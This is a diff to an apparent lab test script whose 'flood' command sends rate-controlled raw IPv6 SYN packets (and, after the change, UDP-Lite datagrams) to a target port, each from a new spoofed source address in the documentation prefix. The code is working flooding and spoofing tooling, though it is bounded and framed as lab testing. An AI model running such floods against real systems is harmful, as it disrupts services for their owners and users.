@@ -5,9 +5,10 @@
   stream SOURCE TARGET TRAP PORT GAP_US COUNT
                                  (attacker ns) one SYN to TRAP, then COUNT SYNs
                                  to PORT every GAP_US microseconds
-  flood DEV DST_MAC TARGET6 RATE SECONDS PORT
-                                 (attacker ns) SYNs to TARGET6:PORT, each from a
-                                 new source in 2001:db8::/64, at RATE per second
+  flood DEV DST_MAC TARGET6 RATE SECONDS PORT [udplite]
+                                 (attacker ns) SYNs (or UDP-Lite datagrams) to
+                                 TARGET6:PORT, each from a new source in
+                                 2001:db8::/64, at RATE per second
 
 Every loop is bounded by its count or its seconds. Addresses are the lab's.
 """
@@ -96,8 +97,11 @@ def stream(source: str, target: str, trap: int, port: int, gap_us: float, count:
         s.sendto(tcp_syn(src, dst, 40001 + i % 20000, port, v6), (target, 0))
 
 
-def flood(dev: str, dst_mac: str, target6: str, rate: float, seconds: float, port: int) -> None:
-    """SYNs from distinct sources 2001:db8::1:xxxx:xxxx (inside the lab's /64)."""
+def flood(dev: str, dst_mac: str, target6: str, rate: float, seconds: float, port: int,
+          protocol: str = "tcp") -> None:
+    """SYNs (UDP-Lite datagrams) from distinct sources 2001:db8::1:xxxx:xxxx
+    (inside the lab's /64)."""
+    number = 136 if protocol == "udplite" else 6
     s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IPV6))
     mac = bytes.fromhex(dst_mac.replace(":", ""))
     address = (dev, ETH_P_IPV6, 0, 0, mac)
@@ -111,8 +115,10 @@ def flood(dev: str, dst_mac: str, target6: str, rate: float, seconds: float, por
         while time.perf_counter() < due:
             pass
         src = (base + i).to_bytes(16, "big")  # a new source every time
-        segment = tcp_syn(src, dst, 40000 + (i % 20000), port, True)
-        header = struct.pack("!IHBB", 0x60000000, len(segment), 6, 64) + src + dst
+        sport = 40000 + (i % 20000)
+        segment = (struct.pack("!HHHH", sport, port, 0, 0) if number == 136
+                   else tcp_syn(src, dst, sport, port, True))
+        header = struct.pack("!IHBB", 0x60000000, len(segment), number, 64) + src + dst
         s.sendto(header + segment, address)
         sent += 1
     print(json.dumps({"sent": sent, "seconds": time.perf_counter() - start}), flush=True)
@@ -125,6 +131,6 @@ if __name__ == "__main__":
     elif command == "stream":
         stream(args[0], args[1], int(args[2]), int(args[3]), float(args[4]), int(args[5]))
     elif command == "flood":
-        flood(args[0], args[1], args[2], float(args[3]), float(args[4]), int(args[5]))
+        flood(args[0], args[1], args[2], float(args[3]), float(args[4]), int(args[5]), *args[6:7])
     else:
         sys.exit(f"unknown command {command}")
